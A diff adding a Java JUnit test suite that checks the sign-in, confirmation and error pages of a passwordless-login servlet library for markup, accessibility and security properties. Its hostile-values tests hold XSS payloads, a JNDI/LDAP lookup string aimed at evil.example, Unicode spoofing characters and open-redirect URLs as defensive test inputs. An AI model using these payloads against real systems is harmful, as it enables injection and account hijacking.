@@ -1,0 +1,359 @@
+package org.descope4j.servlet;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.nio.file.Path;
+import java.security.MessageDigest;
+import java.time.Duration;
+import java.util.Base64;
+import java.util.List;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
+import org.descope4j.DeliveryMethod;
+import org.junit.jupiter.api.DisplayNameGeneration;
+import org.junit.jupiter.api.DisplayNameGenerator;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
+class PagesTest {
+
+    private static final PagesGallery GALLERY = PagesGallery.friendly();
+    private static final String SIGN_IN = "/app/auth/sign-in?returnTo=%2Fapp%2Faccount";
+
+    private final Pages pages = new Pages("");
+
+    static Stream<String> everyPage() {
+        return GALLERY.pages().keySet().stream();
+    }
+
+    private static String html(String name) {
+        return GALLERY.page(name).html();
+    }
+
+    private static String withoutStyle(Page page) {
+        return page.html().replaceAll("(?s)<style>.*?</style>", "");
+    }
+
+    @Nested
+    class Each_page {
+
+        @ParameterizedTest
+        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
+        void is_a_complete_document(String name) {
+            assertThat(html(name))
+                    .startsWith("<!DOCTYPE html>\n<html lang=\"en\" dir=\"ltr\">\n<head>\n<meta charset=\"UTF-8\">")
+                    .contains("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">")
+                    .contains("<meta name=\"color-scheme\" content=\"light dark\">")
+                    .contains("<meta name=\"robots\" content=\"noindex\">")
+                    .contains("<header><bdi>Harbour Library</bdi></header>")
+                    .containsPattern("<title>[^<]+ \u2013 Harbour Library</title>")
+                    .endsWith("</main>\n</body>\n</html>\n");
+            assertThat(html(name).split("<h1>", -1)).hasSize(2);
+            assertThat(html(name).split("<main>", -1)).hasSize(2);
+        }
+
+        @ParameterizedTest
+        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
+        void P1_V4_has_no_script_and_loads_nothing_and_submits_nothing_by_itself(String name) {
+            assertThat(html(name))
+                    .doesNotContainIgnoringCase("<script")
+                    .doesNotContainIgnoringCase("http:")
+                    .doesNotContainIgnoringCase("https:")
+                    .doesNotContainIgnoringCase("javascript:")
+                    .doesNotContainIgnoringCase("http-equiv")
+                    .doesNotContainIgnoringCase("url(")
+                    .doesNotContainIgnoringCase("@import")
+                    .doesNotContainPattern("(?i)\\s(style|src|on[a-z]+)\\s*=");
+        }
+
+        @ParameterizedTest
+        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
+        void P1_carries_the_style_whose_hash_the_policy_names(String name) throws Exception {
+            Matcher style =
+                    Pattern.compile("<style>(.*?)</style>", Pattern.DOTALL).matcher(html(name));
+            assertThat(style.results()).hasSize(1);
+            style.reset().find();
+            byte[] hash =
+                    MessageDigest.getInstance("SHA-256").digest(style.group(1).getBytes(UTF_8));
+
+            assertThat(GALLERY.contentSecurityPolicy())
+                    .isEqualTo("default-src 'none'; style-src 'sha256-"
+                            + Base64.getEncoder().encodeToString(hash)
+                            + "'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'");
+        }
+
+        @ParameterizedTest
+        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
+        void P4_says_everything_it_has_to_say_and_nothing_about_our_insides(String name) {
+            String visible = withoutStyle(GALLERY.page(name));
+
+            assertThat(visible)
+                    .doesNotContain("{value}")
+                    .doesNotContain("%s")
+                    .doesNotContain("null")
+                    .doesNotContainIgnoringCase("exception")
+                    .doesNotContainIgnoringCase("descope4j")
+                    .doesNotContainPattern("<(p|h1|label|legend|button|span|bdi|title)\\b[^>]*></");
+        }
+
+        @ParameterizedTest
+        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
+        void does_not_print_its_tokens(String name) {
+            assertThat(GALLERY.page(name).toString()).doesNotContain("K7Q2").doesNotContain("html");
+        }
+    }
+
+    @Nested
+    class Hostile_values {
+
+        @ParameterizedTest
+        @ValueSource(
+                strings = {
+                    "<script>alert(1)</script>",
+                    "\"><img src=x onerror=alert(1)>",
+                    "' autofocus onfocus='alert(1)",
+                    "</title></style><svg/onload=alert(1)>",
+                    "</main><form action=//evil.example>",
+                    "&lt;b&gt;&#x3c;i>",
+                    "<!--",
+                    "]]><x>"
+                })
+        void P2_never_become_markup(String hostile) {
+            PagesGallery filled = PagesGallery.filledWith(hostile);
+
+            filled.pages().forEach((name, page) -> {
+                assertThat(elements(page))
+                        .as(name)
+                        .isEqualTo(elements(PagesGallery.filledWith("x").page(name)));
+            });
+        }
+
+        /** The tags of a page with their attributes' names: what a browser would build, values left out. */
+        private static List<String> elements(Page page) {
+            return Pattern.compile("<(\"[^\"]*\"|[^\">])*>")
+                    .matcher(withoutStyle(page))
+                    .results()
+                    .map(tag -> tag.group().replaceAll("\"[^\"]*\"", ""))
+                    .toList();
+        }
+
+        @ParameterizedTest
+        @ValueSource(
+                strings = {
+                    "a\u001B[31mb",
+                    "a\u0000b",
+                    "a\u202Eb",
+                    "a\u2066b",
+                    "a\u200Fb",
+                    "a\u2028b",
+                    "a\u0085b",
+                    "a\r\nb",
+                    "a\uFEFFb",
+                    "a\uD83Db"
+                })
+        void P2_cannot_steer_what_is_seen(String hostile) {
+            Page page = new Pages(hostile).confirmSignIn(new Pages.Confirmation("/", "c", "t"), hostile, hostile);
+
+            assertThat(withoutStyle(page))
+                    .doesNotContain(hostile)
+                    .doesNotContainPattern("[\\p{Cc}&&[^\n]]|[\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}]");
+        }
+
+        @Test
+        void P2_a_lookup_expression_is_text() {
+            String jndi = "${jndi:ldap://evil.example/a}{value}%s";
+
+            Page page = new Pages(jndi).confirmSignIn(new Pages.Confirmation("/", jndi, jndi), jndi, jndi);
+
+            assertThat(page.html()).contains("<bdi>" + jndi + "</bdi>").contains("value=\"" + jndi + "\"");
+        }
+
+        @Test
+        void P2_a_name_ends_its_own_writing_direction() {
+            assertThat(pages.signOut("/auth/sign-out", "c", "\u05D0\u05D3\u05D4")
+                            .html())
+                    .contains("<bdi>\u05D0\u05D3\u05D4</bdi>");
+        }
+
+        @ParameterizedTest
+        @ValueSource(
+                strings = {
+                    "",
+                    "sign-in",
+                    "//evil.example/",
+                    "/\\evil.example",
+                    "https://evil.example/",
+                    "javascript:alert(1)"
+                })
+        void a_page_points_to_its_own_host_only(String path) {
+            assertThatThrownBy(() -> pages.signedOut(path)).isInstanceOf(IllegalArgumentException.class);
+            assertThatThrownBy(() -> pages.signOut(path, "c", "a")).isInstanceOf(IllegalArgumentException.class);
+        }
+    }
+
+    @Nested
+    class The_sign_in_page {
+
+        private final Pages.SignInForm email = form(DeliveryMethod.EMAIL);
+        private final Pages.SignInForm choice = form(DeliveryMethod.EMAIL, DeliveryMethod.SMS);
+
+        private static Pages.SignInForm form(DeliveryMethod... offered) {
+            return Pages.SignInForm.empty("/app/auth/sign-in", "csrf-1", "/app/account?a=1&b=2", List.of(offered));
+        }
+
+        @Test
+        void posts_the_fields_the_sign_in_path_reads() {
+            Page page = pages.signIn(email);
+
+            assertThat(page.status()).isEqualTo(200);
+            assertThat(withoutStyle(page))
+                    .contains("<form method=\"post\" action=\"/app/auth/sign-in\"")
+                    .contains("<input type=\"hidden\" name=\"_descope_csrf\" value=\"csrf-1\">")
+                    .contains("<input type=\"hidden\" name=\"returnTo\" value=\"/app/account?a=1&amp;b=2\">")
+                    .contains("<input type=\"hidden\" name=\"deliveryMethod\" value=\"email\">")
+                    .contains("name=\"loginId\" type=\"email\" inputmode=\"email\" autocomplete=\"email\"")
+                    .doesNotContain("radio");
+        }
+
+        @Test
+        void asks_for_a_phone_number_where_only_text_messages_are_sent() {
+            assertThat(pages.signIn(form(DeliveryMethod.SMS)).html())
+                    .contains("name=\"deliveryMethod\" value=\"sms\"")
+                    .contains("name=\"loginId\" type=\"tel\" inputmode=\"tel\" autocomplete=\"tel\"")
+                    .contains("aria-describedby=\"hint\"");
+        }
+
+        @Test
+        void lets_the_user_choose_where_both_are_sent() {
+            assertThat(pages.signIn(choice).html())
+                    .contains(
+                            "<input type=\"radio\" name=\"deliveryMethod\" value=\"email\" checked> <span>E-mail</span>")
+                    .contains("<input type=\"radio\" name=\"deliveryMethod\" value=\"sms\"> <span>Text message</span>")
+                    .contains("name=\"loginId\" type=\"text\"");
+        }
+
+        @Test
+        void keeps_what_was_typed_and_says_what_is_wrong_with_it() {
+            Page page =
+                    pages.signIn(choice.with(DeliveryMethod.SMS, "0170 \"12\"", Pages.FieldProblem.NOT_A_PHONE_NUMBER));
+
+            assertThat(page.status()).isEqualTo(400);
+            assertThat(page.html())
+                    .contains("value=\"sms\" checked")
+                    .contains("value=\"0170 &#34;12&#34;\"")
+                    .contains("aria-invalid=\"true\" aria-describedby=\"problem\"")
+                    .contains("<p class=\"problem\" id=\"problem\" role=\"alert\">Enter the number with");
+        }
+
+        @Test
+        void refuses_a_choice_that_is_not_offered() {
+            assertThatThrownBy(() -> email.with(DeliveryMethod.SMS, "", Pages.FieldProblem.NONE))
+                    .isInstanceOf(IllegalArgumentException.class);
+        }
+    }
+
+    @Test
+    void S1_the_inbox_page_does_not_tell_whether_there_is_such_an_account() {
+        Page page = pages.checkInbox(DeliveryMethod.EMAIL, "a***@e***.com", SIGN_IN);
+
+        assertThat(page.status()).isEqualTo(200);
+        assertThat(page.html())
+                .contains("If you can sign in with <bdi>a***@e***.com</bdi>, a link is on its way to you.")
+                .contains("spam")
+                .contains("works once and expires soon")
+                .contains("<a href=\"/app/auth/sign-in?returnTo=%2Fapp%2Faccount\">")
+                .doesNotContain("<form");
+    }
+
+    @Test
+    void V15_V23_the_confirmation_names_both_accounts_and_posts_the_link_token() {
+        Page page = pages.confirmSignIn(
+                new Pages.Confirmation("/auth/verify/s", "csrf-1", "token-1"), "a***@e***.com", "g***@e***.com");
+
+        assertThat(page.html())
+                .contains("<form method=\"post\" action=\"/auth/verify/s\"")
+                .contains("<input type=\"hidden\" name=\"_descope_csrf\" value=\"csrf-1\">")
+                .contains("<input type=\"hidden\" name=\"t\" value=\"token-1\">")
+                .contains("sign in as <bdi>a***@e***.com</bdi>")
+                .contains("you are signed in as <bdi>g***@e***.com</bdi>. Continuing switches the account.")
+                .contains("If you did not ask for this link, close this page.");
+    }
+
+    @Test
+    void the_confirmation_of_an_unknown_account_names_nobody() {
+        Page page = pages.confirmSignIn(new Pages.Confirmation("/auth/verify", "c", "t"), "", "");
+
+        assertThat(page.html())
+                .contains("One more click")
+                .doesNotContain("<bdi>")
+                .doesNotContain("class=\"notice\"");
+    }
+
+    @Test
+    void V18_a_link_that_could_not_be_redeemed_can_be_tried_again() {
+        Page page = pages.unavailable(new Pages.Confirmation("/auth/verify/s", "csrf-1", "token-1"), "K7Q2");
+
+        assertThat(page.status()).isEqualTo(503);
+        assertThat(page.html())
+                .contains("<form method=\"post\" action=\"/auth/verify/s\"")
+                .contains("name=\"_descope_csrf\" value=\"csrf-1\"")
+                .contains("name=\"t\" value=\"token-1\"")
+                .contains("Try again</button>")
+                .contains("Reference <bdi>K7Q2</bdi>");
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "PT0S, in a few seconds",
+        "PT-5S, in a few seconds",
+        "PT5S, in a few seconds",
+        "PT5.1S, in <bdi>6</bdi> seconds",
+        "PT90S, in <bdi>90</bdi> seconds",
+        "PT91S, in <bdi>2</bdi> minutes",
+        "PT5M, in <bdi>5</bdi> minutes",
+        "PT5M0.1S, in <bdi>6</bdi> minutes",
+        "PT90M, in <bdi>90</bdi> minutes",
+        "PT90M1S, in <bdi>2</bdi> hours",
+        "PT24H, in <bdi>24</bdi> hours"
+    })
+    void a_waiting_time_is_said_as_people_say_it_and_never_too_short(Duration wait, String said) {
+        Page page = pages.tooManyRequests(wait, SIGN_IN, "");
+
+        assertThat(page.status()).isEqualTo(429);
+        assertThat(page.html()).contains(said);
+    }
+
+    @Test
+    void V11_a_link_that_is_no_longer_valid_offers_a_new_one() {
+        Page page = pages.linkNoLongerValid(SIGN_IN, "");
+
+        assertThat(page.status()).isEqualTo(400);
+        assertThat(page.html())
+                .contains("<h1>This link is no longer valid</h1>")
+                .contains("Send me a new link</a>")
+                .doesNotContain("class=\"reference\"");
+    }
+
+    @Test
+    void without_an_application_name_there_is_no_header() {
+        assertThat(pages.signedOut("/").html()).doesNotContain("<header>").contains("<title>Signed out</title>");
+    }
+
+    /** For the eye: {@code target/pages/*.html}. */
+    @Test
+    void all_pages_can_be_looked_at() throws Exception {
+        Path directory = Path.of("target", "pages");
+
+        GALLERY.writeTo(directory);
+
+        assertThat(directory).isDirectoryContaining("glob:**sign-in.html");
+    }
+}
